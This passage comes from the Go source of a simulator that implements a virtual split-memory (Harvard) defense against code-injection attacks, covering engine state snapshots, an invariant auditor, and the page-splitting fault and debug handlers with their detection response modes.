		t.Fatalf("split pages leaked: %d", eng.Stats().SplitPages)
	}
}
