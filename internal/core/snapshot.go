package core

import (
	"sort"

	"splitmem/internal/kernel"
	"splitmem/internal/snapshot"
)

// The engine's state codecs (kernel.ProtStateCodec): engine-wide counters
// plus the per-process split-pair tables stored in Process.ProtData. The
// in-flight telemetry episode fields (pendingSpan, pendingFaultExit) are
// deliberately not captured — spans are host-side observability, and the
// span ring itself does not survive a snapshot; dropping them only means one
// open itlb-load episode goes unmeasured after a restore.

var _ kernel.ProtStateCodec = (*Engine)(nil)

// EncodeEngineState serializes the engine-wide counters.
func (e *Engine) EncodeEngineState(w *snapshot.Writer) {
	w.U64(e.stats.SplitPages)
	w.U64(e.stats.TotalSplits)
	w.U64(e.stats.DataTLBLoads)
	w.U64(e.stats.CodeTLBLoads)
	w.U64(e.stats.Detections)
	w.U64(e.stats.PagesUnsplit)
	w.U64(e.stats.ObserveLockIn)
	w.U64(e.stats.LazyPairs)
	w.U64(e.stats.Audits)
	w.U64(e.stats.Violations)
	w.U64(e.stats.HealedTLB)
	w.U64(e.stats.AttributedHeals)
}

// DecodeEngineState restores counters serialized by EncodeEngineState.
func (e *Engine) DecodeEngineState(r *snapshot.Reader) error {
	e.stats.SplitPages = r.U64()
	e.stats.TotalSplits = r.U64()
	e.stats.DataTLBLoads = r.U64()
	e.stats.CodeTLBLoads = r.U64()
	e.stats.Detections = r.U64()
	e.stats.PagesUnsplit = r.U64()
	e.stats.ObserveLockIn = r.U64()
	e.stats.LazyPairs = r.U64()
	e.stats.Audits = r.U64()
	e.stats.Violations = r.U64()
	e.stats.HealedTLB = r.U64()
	e.stats.AttributedHeals = r.U64()
	return r.Err()
}

// EncodeProcState serializes one process's split-pair table in sorted vpn
// order (the table is a Go map; the image must not depend on map iteration).
func (e *Engine) EncodeProcState(p *kernel.Process, w *snapshot.Writer) {
	st, ok := p.ProtData.(*procState)
	if !ok || st == nil {
		w.U32(0)
		return
	}
	vpns := make([]uint32, 0, len(st.pairs))
	for vpn := range st.pairs {
		vpns = append(vpns, vpn)
	}
	sort.Slice(vpns, func(a, b int) bool { return vpns[a] < vpns[b] })
	w.U32(uint32(len(vpns)))
	for _, vpn := range vpns {
		pr := st.pairs[vpn]
		w.U32(vpn)
		w.U32(pr.code)
		w.U32(pr.data)
		w.U8(pr.perm)
	}
}

// DecodeProcState restores a split-pair table serialized by EncodeProcState.
func (e *Engine) DecodeProcState(p *kernel.Process, r *snapshot.Reader) error {
	n := r.U32()
	st := &procState{pairs: make(map[uint32]*pagePair, n)}
	for i := uint32(0); i < n; i++ {
		vpn := r.U32()
		pr := &pagePair{code: r.U32(), data: r.U32(), perm: r.U8()}
		if _, dup := st.pairs[vpn]; dup {
			return snapshot.Corruptf("core: duplicate split pair for vpn %#x", vpn)
		}
		st.pairs[vpn] = pr
	}
	p.ProtData = st
	return r.Err()
}
