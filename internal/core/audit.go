package core

// audit.go implements the Paranoid invariant auditor: after every protector
// entry point (MapPage, HandleFault, HandleDebug, HandleUndefined, ForkPage,
// ReleasePage, ProtectPage) it walks both TLBs and every process's pagetable
// and split-pair table, asserting the Harvard invariants the engine's
// security argument rests on:
//
//  1. pair sanity — every split page has an allocated data twin, a distinct
//     allocated code twin (or a deliberately-deferred lazy one), and no
//     physical frame serves two pairs or both roles at once;
//  2. restriction — the PTE of a split page keeps the Split bit, points at
//     the data twin, and stays supervisor-only, except during an in-flight
//     instruction-TLB load (PendingSplitValid), when it may point at the
//     code twin with the User bit set;
//  3. trap-flag hygiene — TF is set only while an instruction-TLB load is
//     in flight; a leaked TF would single-step the guest forever;
//  4. TLB coherence — an ITLB entry for a split page maps its code twin and
//     a DTLB entry maps its data twin; globally, no ITLB entry anywhere maps
//     any process's data twin and no DTLB entry maps a code twin (the
//     virtualized Harvard separation itself).
//
// Violations are contained, never fatal: incoherent TLB entries are healed
// (invalidated, forcing a clean reload through the fault path) and the
// finding is logged. When the chaos injector admits to having swallowed the
// shootdown for that page (Config.StaleVPN), the healed entry is attributed
// to the injected hardware fault and logged as EvMachineCheck; otherwise it
// is an engine bug and logged as EvInvariantViolation.

import (
	"fmt"
	"sort"

	"splitmem/internal/kernel"
	"splitmem/internal/paging"
	"splitmem/internal/tlb"
)

// violate records an engine-state inconsistency as a structured event.
func (e *Engine) violate(k *kernel.Kernel, origin string, p *kernel.Process, format string, args ...any) {
	e.stats.Violations++
	ev := kernel.Event{
		Kind: kernel.EvInvariantViolation,
		Text: origin + ": " + fmt.Sprintf(format, args...),
	}
	if p != nil {
		ev.PID = p.PID
		ev.Proc = p.Name
	}
	k.Emit(ev)
}

// heal invalidates an incoherent TLB entry and classifies it: attributed to
// an injected stale-TLB fault (machine check) or unexplained (violation).
func (e *Engine) heal(k *kernel.Kernel, origin string, p *kernel.Process, t *tlb.TLB, name string, vpn uint32, why string) {
	t.Invalidate(vpn)
	e.stats.HealedTLB++
	if e.cfg.StaleVPN != nil && e.cfg.StaleVPN(vpn) {
		e.stats.AttributedHeals++
		k.Emit(kernel.Event{
			Kind: kernel.EvMachineCheck,
			Text: fmt.Sprintf("%s: healed injected stale %s entry for page %#x (%s)", origin, name, vpn, why),
		})
		return
	}
	e.violate(k, origin, p, "incoherent %s entry for page %#x: %s", name, vpn, why)
}

// audit is the Paranoid walk; origin names the protector entry point that
// just ran, for the event log.
func (e *Engine) audit(k *kernel.Kernel, origin string) {
	e.stats.Audits++
	m := k.Machine()
	procs := k.Processes()

	// Global twin-frame registry, and cross-pair duplicate detection.
	codeFrames := map[uint32]bool{}
	dataFrames := map[uint32]bool{}
	for _, p := range procs {
		st, ok := p.ProtData.(*procState)
		if !ok {
			continue
		}
		for _, vpn := range sortedVPNs(st) {
			pr := st.pairs[vpn]
			if pr.code != 0 {
				if codeFrames[pr.code] || dataFrames[pr.code] {
					e.violate(k, origin, p, "frame %d backs two split twins (page %#x)", pr.code, vpn)
				}
				codeFrames[pr.code] = true
			}
			if dataFrames[pr.data] || codeFrames[pr.data] {
				e.violate(k, origin, p, "frame %d backs two split twins (page %#x)", pr.data, vpn)
			}
			dataFrames[pr.data] = true
		}
	}

	for _, p := range procs {
		// Trap-flag hygiene holds for every process, split pages or not: the
		// live flags for the process on the CPU, the saved context otherwise.
		tf := p.Ctx.Flags.TF
		if p == k.Current() {
			tf = m.Ctx.Flags.TF
		}
		if tf && !p.PendingSplitValid {
			e.violate(k, origin, p, "trap flag set with no instruction-TLB load in flight")
		}

		st, ok := p.ProtData.(*procState)
		if !ok || len(st.pairs) == 0 {
			continue
		}
		tlbCurrent := m.Pagetable() == p.PT // the TLBs cache this process's mappings
		for _, vpn := range sortedVPNs(st) {
			pr := st.pairs[vpn]

			// Pair sanity: both twins allocated and distinct.
			if pr.data == 0 || k.Phys().RefCount(pr.data) == 0 {
				e.violate(k, origin, p, "data twin of page %#x (frame %d) is not allocated", vpn, pr.data)
			}
			if pr.code != 0 {
				if pr.code == pr.data {
					e.violate(k, origin, p, "page %#x twins collapsed onto frame %d", vpn, pr.code)
				}
				if k.Phys().RefCount(pr.code) == 0 {
					e.violate(k, origin, p, "code twin of page %#x (frame %d) is not allocated", vpn, pr.code)
				}
			}

			// Restriction: the PTE is re-restricted whenever no load is in
			// flight.
			ent := p.PT.Get(vpn)
			inflight := p.PendingSplitValid && paging.VPN(p.PendingSplit) == vpn
			switch {
			case !ent.Present() || !ent.Split():
				e.violate(k, origin, p, "split page %#x PTE lost Present/Split (%#x)", vpn, uint64(ent))
			case ent.Frame() == pr.data && !ent.User():
				// The steady state: restricted, pointing at the data twin.
			case inflight && ent.Frame() == pr.code && ent.User():
				// Unrestricted onto the code twin mid instruction-TLB load.
			default:
				e.violate(k, origin, p,
					"split page %#x PTE frame=%d user=%v (twins code=%d data=%d, inflight=%v)",
					vpn, ent.Frame(), ent.User(), pr.code, pr.data, inflight)
			}

			// Per-page TLB coherence, only meaningful for the process whose
			// pagetable is loaded (context switches flush both TLBs).
			if !tlbCurrent {
				continue
			}
			if ie, ok := m.ITLB.Probe(vpn); ok && (pr.code == 0 || ie.Frame != pr.code) {
				e.heal(k, origin, p, m.ITLB, "ITLB", vpn,
					fmt.Sprintf("maps frame %d, code twin is %d", ie.Frame, pr.code))
			}
			if de, ok := m.DTLB.Probe(vpn); ok && de.Frame != pr.data {
				e.heal(k, origin, p, m.DTLB, "DTLB", vpn,
					fmt.Sprintf("maps frame %d, data twin is %d", de.Frame, pr.data))
			}
		}
	}

	// Global Harvard separation: no fetch path to any data twin, no
	// load/store path to any code twin — across every split pair in the
	// system, whatever vpn the entry is cached under (a stale entry retained
	// across a context-switch flush can alias another process's twins).
	cur := k.Current()
	for _, bad := range tlbTwinBreaches(m.ITLB, dataFrames) {
		e.heal(k, origin, cur, m.ITLB, "ITLB", bad,
			"instruction fetches can reach a data twin")
	}
	for _, bad := range tlbTwinBreaches(m.DTLB, codeFrames) {
		e.heal(k, origin, cur, m.DTLB, "DTLB", bad,
			"loads/stores can reach a code twin")
	}
}

// sortedVPNs returns the pair table's keys in ascending order so audit
// walks — and therefore event logs — are deterministic.
func sortedVPNs(st *procState) []uint32 {
	vpns := make([]uint32, 0, len(st.pairs))
	for vpn := range st.pairs {
		vpns = append(vpns, vpn)
	}
	sort.Slice(vpns, func(i, j int) bool { return vpns[i] < vpns[j] })
	return vpns
}

// tlbTwinBreaches collects the vpns of entries mapping any frame in the
// forbidden twin set (collected first: healing mutates the TLB).
func tlbTwinBreaches(t *tlb.TLB, forbidden map[uint32]bool) []uint32 {
	var bad []uint32
	t.Range(func(vpn uint32, en tlb.Entry) bool {
		if forbidden[en.Frame] {
			bad = append(bad, vpn)
		}
		return true
	})
	return bad
}
