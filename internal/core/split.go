// Package core implements the paper's primary contribution: the virtual
// split-memory (virtualized Harvard) architecture built by desynchronizing
// the x86's split instruction/data TLBs (Riley, Jiang, Xu — "An
// Architectural Approach to Preventing Code Injection Attacks", DSN'07 /
// TDSC 2010).
//
// Every protected virtual page is backed by two physical frames — a code
// twin (the only frame instruction fetches can reach) and a data twin (the
// only frame loads and stores can reach). The pagetable entry stays
// "restricted" (supervisor-only) so that every TLB miss traps into the
// page-fault handler, which tells code accesses from data accesses by the
// paper's addr==EIP test and loads exactly one TLB:
//
//   - data-TLB load (Algorithm 1, lines 7-11): point the PTE at the data
//     twin, unrestrict, touch a byte (the hardware walk fills the DTLB),
//     re-restrict;
//   - instruction-TLB load (Algorithm 1 lines 2-5 + Algorithm 2): point the
//     PTE at the code twin, unrestrict, set the trap flag and restart the
//     instruction; the debug interrupt then re-restricts.
//
// Injected code therefore lands on the data twin and can never be fetched.
// Detection happens at the unique moment the first injected instruction is
// about to run, enabling the break, observe (Algorithm 3) and forensics
// response modes.
package core

import (
	"fmt"

	"splitmem/internal/cpu"
	"splitmem/internal/isa"
	"splitmem/internal/kernel"
	"splitmem/internal/loader"
	"splitmem/internal/mem"
	"splitmem/internal/paging"
	"splitmem/internal/telemetry"
	"splitmem/internal/tlb"
	"splitmem/internal/trace"
)

// ResponseMode selects what happens when injected-code execution is
// detected (§4.5).
type ResponseMode int

// Response modes.
const (
	// Break takes no special action: the fetch is routed to the
	// uncompromised code twin and the process typically dies on an illegal
	// instruction — the de facto standard response (§4.5.1).
	Break ResponseMode = iota
	// Observe logs the attempt, locks the page to its data twin, and lets
	// the attack continue under Sebek-style monitoring (§4.5.2).
	Observe
	// Forensics dumps the injected shellcode (EIP onward, from the data
	// twin) and can substitute forensic shellcode before resuming (§4.5.3).
	Forensics
	// Recovery transfers execution to a callback the application registered
	// with register_recovery(2), on a fresh stack — the "recovery mode"
	// §4.5 envisions as future work. Falls back to Break when no handler is
	// registered.
	Recovery
)

// String names the response mode.
func (r ResponseMode) String() string {
	switch r {
	case Break:
		return "break"
	case Observe:
		return "observe"
	case Forensics:
		return "forensics"
	case Recovery:
		return "recovery"
	}
	return "unknown"
}

// Config tunes the split-memory engine.
type Config struct {
	Response ResponseMode
	// Fraction splits only this fraction of pages (1.0 = everything),
	// selected by a deterministic per-page hash — the Fig. 9 experiment.
	// Zero means 1.0.
	Fraction float64
	// MixedOnly splits only pages that are both writable and executable,
	// leaving the rest to the execute-disable bit — the paper's
	// "supplement NX" deployment (§4.2.1). Implies UnsplitNX.
	MixedOnly bool
	// UnsplitNX marks non-executable unsplit pages with the NX bit (only
	// meaningful on a machine with NXEnabled).
	UnsplitNX bool
	// Seed drives the Fraction page-selection hash.
	Seed uint64
	// ForensicShellcode, when non-nil, is copied onto the code twin at
	// detection and executed in place of the attacker's payload (§6.1.3
	// injects exit(0)).
	ForensicShellcode []byte
	// DumpBytes is how much injected code the forensics mode records
	// (default 20, matching Fig. 5c).
	DumpBytes int
	// SoftTLB models a software-managed-TLB architecture (§4.7, e.g.
	// SPARC): the engine loads the TLBs directly through the machine's
	// TLB-load ports instead of the pagetable-walk and single-step tricks
	// x86 requires. Measurably cheaper — see the ablation benchmark.
	SoftTLB bool
	// Paranoid enables the invariant auditor (audit.go): after every
	// protector entry point the engine walks both TLBs, every pagetable and
	// every split-pair table and asserts the Harvard invariants, logging any
	// inconsistency as an EvInvariantViolation event (never panicking) and
	// healing incoherent TLB entries.
	Paranoid bool
	// StaleVPN, when non-nil, lets the auditor ask the chaos injector
	// whether an incoherent TLB entry it healed for this page is explained
	// by an injected stale-TLB fault; attributed heals are logged as
	// machine checks instead of invariant violations.
	StaleVPN func(vpn uint32) bool
	// Hub, when non-nil, enables engine telemetry: TLB-load latency
	// histograms, PTE-flip and detection counters, per-page/per-process
	// heatmaps, and itlb-load/dtlb-load spans in the hub's span buffer.
	Hub *telemetry.Hub
	// TraceRing, when non-nil, is the machine's retired-instruction ring;
	// observe and forensics detections attach its contents (the last N
	// instructions leading up to the hijack) to the emitted event.
	TraceRing *trace.Ring
	// LazyTwins enables the demand-paged twin allocation §5.1 envisions:
	// non-executable pages get their code twin only if an instruction
	// fetch ever touches them, halving the memory overhead for data-heavy
	// processes. The lazy twin is synthesized (zeros, or the invalid-opcode
	// marker in observe/forensics modes) and NEVER copied from the data
	// twin — copying current data would hand the attacker an executable
	// alias of whatever was injected.
	LazyTwins bool
}

// Stats counts engine activity.
type Stats struct {
	SplitPages    uint64 // pages currently split across all processes
	TotalSplits   uint64 // lifetime page splits
	DataTLBLoads  uint64 // pagetable-walk data-TLB loads
	CodeTLBLoads  uint64 // single-step instruction-TLB loads
	Detections    uint64 // injected-code executions detected
	PagesUnsplit  uint64 // pages handed to the NX/plain fallback
	ObserveLockIn uint64 // pages locked to the data twin by observe mode
	LazyPairs     uint64 // split pages whose code twin is not yet materialized

	// Paranoid-mode auditor counters (zero unless Config.Paranoid).
	Audits          uint64 // invariant walks performed
	Violations      uint64 // unexplained invariant violations found
	HealedTLB       uint64 // incoherent TLB entries invalidated
	AttributedHeals uint64 // heals explained by injected stale-TLB faults
}

// Engine is the split-memory protection policy; it implements
// kernel.Protector.
type Engine struct {
	cfg   Config
	stats Stats
	tel   *engineTel // nil when telemetry is disabled

	// traceScratch is the reusable backing array for retired-instruction
	// snapshots attached to detection events — one allocation for the
	// engine's lifetime instead of one per detection.
	traceScratch []trace.Entry
}

// New creates a split-memory engine.
func New(cfg Config) *Engine {
	if cfg.Fraction <= 0 || cfg.Fraction > 1 {
		cfg.Fraction = 1
	}
	if cfg.DumpBytes == 0 {
		cfg.DumpBytes = 20
	}
	if cfg.MixedOnly {
		cfg.UnsplitNX = true
	}
	e := &Engine{cfg: cfg, tel: newEngineTel(cfg.Hub)}
	if cfg.TraceRing != nil {
		e.traceScratch = make([]trace.Entry, 0, cfg.TraceRing.Cap())
	}
	return e
}

// Name implements kernel.Protector.
func (e *Engine) Name() string { return "split" }

// Stats returns a snapshot of engine counters.
func (e *Engine) Stats() Stats { return e.stats }

// Response returns the configured response mode.
func (e *Engine) Response() ResponseMode { return e.cfg.Response }

// pagePair records the two physical twins of a split page.
type pagePair struct {
	code uint32
	data uint32
	perm byte
}

// procState is the engine's per-process table, stored in Process.ProtData.
type procState struct {
	pairs map[uint32]*pagePair

	// In-flight instruction-TLB load episode (telemetry only). The span
	// opens at page-fault entry and closes in HandleDebug after the
	// re-restriction; pendingFaultExit is the cycle count when the fault
	// handler returned with TF set, so the #DB entry can measure the
	// single-step round trip. Per-process, so context switches between
	// the fault and its #DB keep episodes correctly attributed.
	pendingSpan      telemetry.SpanID
	pendingFaultExit uint64
}

func (e *Engine) state(p *kernel.Process) *procState {
	st, ok := p.ProtData.(*procState)
	if !ok || st == nil {
		st = &procState{pairs: map[uint32]*pagePair{}}
		p.ProtData = st
	}
	return st
}

// Pair exposes the code/data twin frames for a vpn (testing and forensics).
func (e *Engine) Pair(p *kernel.Process, vpn uint32) (code, data uint32, ok bool) {
	st := e.state(p)
	pr, ok := st.pairs[vpn]
	if !ok {
		return 0, 0, false
	}
	return pr.code, pr.data, true
}

// shouldSplit applies the MixedOnly and Fraction policies.
func (e *Engine) shouldSplit(vpn uint32, perm byte) bool {
	if e.cfg.MixedOnly {
		return perm&loader.PermW != 0 && perm&loader.PermX != 0
	}
	if e.cfg.Fraction >= 1 {
		return true
	}
	return splitHash(vpn, e.cfg.Seed) < uint32(e.cfg.Fraction*float64(1<<32))
}

// splitHash is a deterministic page-selection hash (splitmix-style).
func splitHash(vpn uint32, seed uint64) uint32 {
	x := uint64(vpn)*0x9E3779B97F4A7C15 ^ seed
	x ^= x >> 30
	x *= 0xBF58476D1CE4E5B9
	x ^= x >> 27
	x *= 0x94D049BB133111EB
	x ^= x >> 31
	return uint32(x)
}

// MapPage implements kernel.Protector: the paper's modified ELF loader and
// demand-paging logic (§5.1, §5.4). The page is duplicated into two
// side-by-side physical frames and its PTE is restricted (supervisor bit)
// so a page fault occurs on every TLB miss.
func (e *Engine) MapPage(k *kernel.Kernel, p *kernel.Process, vpn uint32, frame uint32, perm byte) {
	if e.cfg.Paranoid {
		defer e.audit(k, "MapPage")
	}
	if !e.shouldSplit(vpn, perm) {
		e.stats.PagesUnsplit++
		ent := paging.Entry(0).WithFrame(frame).With(paging.Present | paging.User)
		if perm&loader.PermW != 0 {
			ent = ent.With(paging.Writable)
		}
		if e.cfg.UnsplitNX && perm&loader.PermX == 0 {
			ent = ent.With(paging.NX)
		}
		p.PT.Set(vpn, ent)
		return
	}

	data := frame
	if e.cfg.LazyTwins && perm&loader.PermX == 0 {
		// Demand-paged twin (§5.1's envisioned optimization): defer the
		// code-twin allocation until an instruction fetch actually reaches
		// this page — which for a data page is the attack itself.
		st := e.state(p)
		st.pairs[vpn] = &pagePair{code: 0, data: data, perm: perm}
		e.stats.SplitPages++
		e.stats.TotalSplits++
		e.stats.LazyPairs++
		ent := paging.Entry(0).WithFrame(data).With(paging.Present | paging.Split)
		if perm&loader.PermW != 0 {
			ent = ent.With(paging.Writable)
		}
		p.PT.Set(vpn, ent)
		k.Machine().Invlpg(vpn << mem.PageShift)
		return
	}

	code, err := k.Phys().Alloc()
	if err != nil {
		// Out of physical memory: fall back to an unsplit mapping rather
		// than losing the page. (The paper's prototype doubles memory usage
		// and inherits the same failure mode.)
		e.stats.PagesUnsplit++
		ent := paging.Entry(0).WithFrame(frame).With(paging.Present | paging.User)
		if perm&loader.PermW != 0 {
			ent = ent.With(paging.Writable)
		}
		p.PT.Set(vpn, ent)
		return
	}

	switch {
	case perm&loader.PermX != 0:
		// Executable (possibly mixed) page: both twins start as exact
		// copies of the original content (§5.1).
		k.Phys().CopyFrame(code, data)
	case e.cfg.Response == Observe || e.cfg.Response == Forensics:
		// Fill the never-executable code twin with invalid opcodes so the
		// first injected-instruction fetch traps precisely (§4.5.2).
		fill := k.Phys().Frame(code)
		for i := range fill {
			fill[i] = byte(isa.OpUndef)
		}
	default:
		// Break mode: faithful §5.1 — copy the original content into both
		// twins. For fresh data pages that is a page of zeros, which S86
		// (like x86) decodes as an illegal instruction.
		k.Phys().CopyFrame(code, data)
	}

	st := e.state(p)
	st.pairs[vpn] = &pagePair{code: code, data: data, perm: perm}
	e.stats.SplitPages++
	e.stats.TotalSplits++

	ent := paging.Entry(0).WithFrame(data).With(paging.Present | paging.Split)
	if perm&loader.PermW != 0 {
		ent = ent.With(paging.Writable)
	}
	// The supervisor "restriction": the User bit stays clear.
	p.PT.Set(vpn, ent)
	k.Machine().Invlpg(vpn << mem.PageShift)
}

// HandleFault implements Algorithm 1. Not every fault on a split page is
// ours (§5.2): write-protection faults fall through to the kernel.
func (e *Engine) HandleFault(k *kernel.Kernel, p *kernel.Process, addr uint32, code uint32) kernel.FaultVerdict {
	if e.cfg.Paranoid {
		defer e.audit(k, "HandleFault")
	}
	vpn := paging.VPN(addr)
	st := e.state(p)
	pr, ok := st.pairs[vpn]
	if !ok {
		// Unsplit page under NX fallback: detect execute-disable violations.
		if e.cfg.UnsplitNX && code&cpu.PFFetch != 0 {
			ent := p.PT.Get(vpn)
			if ent.Present() && ent.NoExec() {
				e.stats.Detections++
				if e.tel != nil {
					e.tel.detections.Inc()
					e.tel.spans.Instant("nx-detection", p.PID, vpn, k.Machine().Cycles)
				}
				k.Emit(kernel.Event{
					Kind: kernel.EvInjectionDetected,
					Addr: addr,
					Text: "execute-disable violation (NX fallback)",
				})
				return kernel.FaultKill
			}
		}
		return kernel.FaultNotMine
	}
	ent := p.PT.Get(vpn)
	if !ent.Present() {
		return kernel.FaultNotMine
	}
	// A write to a read-only split page is a real protection violation, not
	// a TLB-load request.
	if code&cpu.PFWrite != 0 && !ent.Writable() {
		return kernel.FaultNotMine
	}

	m := k.Machine()
	if addr == m.Ctx.EIP && pr.code == 0 {
		// Materialize the lazy code twin (zeros, or markers under
		// observe/forensics) — never from the data twin.
		if !e.materializeTwin(k, pr) {
			return kernel.FaultNotMine // OOM: let the kernel kill cleanly
		}
	}
	entryCycles := m.Cycles
	if e.cfg.SoftTLB {
		// Software-managed TLBs (§4.7): "the processor's TLBs could be
		// loaded directly" — one trap, no PTE gymnastics, no single-step.
		entry := tlb.Entry{User: true, Writable: ent.Writable()}
		if addr == m.Ctx.EIP {
			entry.Frame = pr.code
			m.LoadITLB(vpn, entry)
			e.stats.CodeTLBLoads++
			if e.tel != nil {
				id := e.tel.spans.Begin("itlb-load", p.PID, vpn, entryCycles)
				start, _ := e.tel.spans.End(id, m.Cycles)
				e.tel.itlbLoadCycles.Observe(m.Cycles - start)
				e.tel.heat(p.PID, vpn)
			}
		} else {
			entry.Frame = pr.data
			m.LoadDTLB(vpn, entry)
			e.stats.DataTLBLoads++
			if e.tel != nil {
				id := e.tel.spans.Begin("dtlb-load", p.PID, vpn, entryCycles)
				start, _ := e.tel.spans.End(id, m.Cycles)
				e.tel.dtlbLoadCycles.Observe(m.Cycles - start)
				e.tel.heat(p.PID, vpn)
			}
		}
		return kernel.FaultHandled
	}
	if addr == m.Ctx.EIP {
		// Code access (Algorithm 1, lines 2-5): route the PTE to the code
		// twin, unrestrict, and single-step the faulting instruction so the
		// hardware walk fills the instruction-TLB.
		p.PT.Set(vpn, ent.WithFrame(pr.code).With(paging.User))
		m.Ctx.Flags.TF = true
		p.PendingSplit = addr
		p.PendingSplitValid = true
		e.stats.CodeTLBLoads++
		if e.tel != nil {
			// The episode stays open across the single-step; HandleDebug
			// closes it after the re-restriction.
			st.pendingSpan = e.tel.spans.Begin("itlb-load", p.PID, vpn, entryCycles)
			st.pendingFaultExit = m.Cycles
			e.tel.pteFlips.Inc() // unrestrict, pointed at the code twin
			e.tel.heat(p.PID, vpn)
		}
		return kernel.FaultHandled
	}

	// Data access (Algorithm 1, lines 7-11): pagetable walk. Point the PTE
	// at the data twin, unrestrict, touch a byte so the hardware loads the
	// data-TLB, then restrict again.
	p.PT.Set(vpn, ent.WithFrame(pr.data).With(paging.User))
	m.SupervisorTouch(addr)
	p.PT.Set(vpn, p.PT.Get(vpn).Without(paging.User))
	// Re-restriction is a decode-cache coherence point: the fast path must
	// never outlive the trap configuration Algorithms 1-2 depend on.
	m.DropDecodeFrame(pr.code)
	m.DropDecodeFrame(pr.data)
	e.stats.DataTLBLoads++
	if e.tel != nil {
		id := e.tel.spans.Begin("dtlb-load", p.PID, vpn, entryCycles)
		start, _ := e.tel.spans.End(id, m.Cycles)
		e.tel.dtlbLoadCycles.Observe(m.Cycles - start)
		e.tel.pteFlips.Add(2) // unrestrict + re-restrict
		e.tel.heat(p.PID, vpn)
	}
	return kernel.FaultHandled
}

// HandleDebug implements Algorithm 2: after the single-stepped instruction
// retired (filling the instruction-TLB), re-restrict the PTE and clear the
// trap flag.
func (e *Engine) HandleDebug(k *kernel.Kernel, p *kernel.Process) bool {
	if e.cfg.Paranoid {
		defer e.audit(k, "HandleDebug")
	}
	if !p.PendingSplitValid {
		return false
	}
	addr := p.PendingSplit
	vpn := paging.VPN(addr)
	p.PendingSplitValid = false
	m := k.Machine()
	m.Ctx.Flags.TF = false

	st := e.state(p)
	if e.tel != nil && st.pendingSpan.Valid() {
		// The single-step round trip is the window between the fault
		// handler's return (TF set) and this #DB delivery.
		e.tel.tfRoundTrip.Observe(m.Cycles - st.pendingFaultExit)
		id := st.pendingSpan
		st.pendingSpan = telemetry.SpanID{}
		defer func() {
			if start, ok := e.tel.spans.End(id, m.Cycles); ok {
				e.tel.itlbLoadCycles.Observe(m.Cycles - start)
			}
		}()
	}
	pr, ok := st.pairs[vpn]
	if !ok {
		return true
	}
	ent := p.PT.Get(vpn)
	// Restrict and, to heal any data-TLB pollution the single-stepped
	// instruction may have caused on its own page, rerun the data walk
	// (documented deviation; see DESIGN.md).
	p.PT.Set(vpn, ent.WithFrame(pr.data).With(paging.User))
	m.DTLB.Invalidate(vpn)
	m.SupervisorTouch(addr)
	p.PT.Set(vpn, p.PT.Get(vpn).Without(paging.User))
	m.DropDecodeFrame(pr.code) // re-restriction coherence point (Algorithm 2)
	m.DropDecodeFrame(pr.data)
	if e.tel != nil {
		e.tel.pteFlips.Add(2) // repoint-to-data + re-restrict
	}
	return true
}

// HandleUndefined implements the response modes (§4.5, Algorithm 3). A #UD
// whose EIP lies on a split page means the processor fetched from a code
// twin that holds no program code — i.e., the attacker's injected bytes
// exist only on the data twin and were never reachable.
func (e *Engine) HandleUndefined(k *kernel.Kernel, p *kernel.Process) kernel.UDVerdict {
	if e.cfg.Paranoid {
		defer e.audit(k, "HandleUndefined")
	}
	m := k.Machine()
	eip := m.Ctx.EIP
	vpn := paging.VPN(eip)
	st := e.state(p)
	pr, ok := st.pairs[vpn]
	if !ok {
		return kernel.UDNotMine
	}
	e.stats.Detections++
	if e.tel != nil {
		e.tel.detections.Inc()
		e.tel.spans.Instant("injection-detected", p.PID, vpn, m.Cycles)
	}

	// The injected payload lives on the data twin, starting at EIP (§5.5).
	dump := e.readTwin(k, pr.data, eip, e.cfg.DumpBytes)
	k.Emit(kernel.Event{
		Kind:  kernel.EvInjectionDetected,
		Addr:  eip,
		Data:  dump,
		Text:  fmt.Sprintf("attempt to execute injected code at %#08x", eip),
		Trace: e.retiredTrace(),
	})

	switch e.cfg.Response {
	case Observe:
		// Algorithm 3: log, lock the page in as the data twin, disable
		// splitting, and let the attack proceed under observation.
		k.Emit(kernel.Event{
			Kind: kernel.EvInjectionObserved,
			Addr: eip,
			Text: "observe mode: locking data page and resuming attack",
		})
		ent := paging.Entry(0).WithFrame(pr.data).With(paging.Present | paging.User)
		if pr.perm&loader.PermW != 0 {
			ent = ent.With(paging.Writable)
		}
		p.PT.Set(vpn, ent)
		if pr.code != 0 {
			k.Phys().Free(pr.code)
		} else {
			e.stats.LazyPairs--
		}
		delete(st.pairs, vpn)
		e.stats.SplitPages--
		e.stats.ObserveLockIn++
		// The freed code twin may hold stale decodings and the data twin is
		// about to become fetchable; drop both before the shootdown.
		m.DropDecodeFrame(pr.code)
		m.DropDecodeFrame(pr.data)
		m.Invlpg(eip)
		k.ArmSebek(p)
		return kernel.UDResume
	case Recovery:
		// Enter the application's registered recovery callback on a fresh
		// stack; the paper argues the application itself is best placed to
		// check data integrity or terminate gracefully (§4.5).
		if k.RecoveryEntry(p) {
			k.Emit(kernel.Event{
				Kind: kernel.EvInjectionObserved,
				Addr: eip,
				Text: "recovery mode: transferring to the registered handler",
			})
			return kernel.UDResume
		}
		return kernel.UDKill
	case Forensics:
		k.Emit(kernel.Event{
			Kind: kernel.EvForensicDump,
			Addr: eip,
			Data: dump,
			Text: fmt.Sprintf("shellcode dump (%d bytes):\n%s", len(dump), isa.Disassemble(dump, eip, 8)),
		})
		if len(e.cfg.ForensicShellcode) > 0 {
			// Copy forensic shellcode onto the (empty) code twin being
			// executed from and point EIP at the start of the page (§5.5).
			twin := k.Phys().Frame(pr.code)
			clear(twin)
			copy(twin, e.cfg.ForensicShellcode)
			m.Ctx.EIP = vpn << mem.PageShift
			return kernel.UDResume
		}
		return kernel.UDKill
	default: // Break
		return kernel.UDKill
	}
}

// retiredTrace renders the machine's retired-instruction ring as a
// disassembly listing for attachment to a detection event, or "" when no
// ring is configured. The ring contents are snapshotted into the engine's
// reusable scratch slice, so the hot detection path allocates only for the
// final listing string.
func (e *Engine) retiredTrace() string {
	if e.cfg.TraceRing == nil {
		return ""
	}
	e.traceScratch = e.cfg.TraceRing.EntriesInto(e.traceScratch[:0])
	return trace.Listing(e.traceScratch)
}

// readTwin copies n bytes from a physical twin starting at the page offset
// of addr (clamped to the page).
func (e *Engine) readTwin(k *kernel.Kernel, frame uint32, addr uint32, n int) []byte {
	fr := k.Phys().Frame(frame)
	off := int(addr & mem.PageMask)
	if off+n > len(fr) {
		n = len(fr) - off
	}
	out := make([]byte, n)
	copy(out, fr[off:off+n])
	return out
}

// DataFrame implements kernel.Protector: the kernel's copyin/copyout must
// see the data twin.
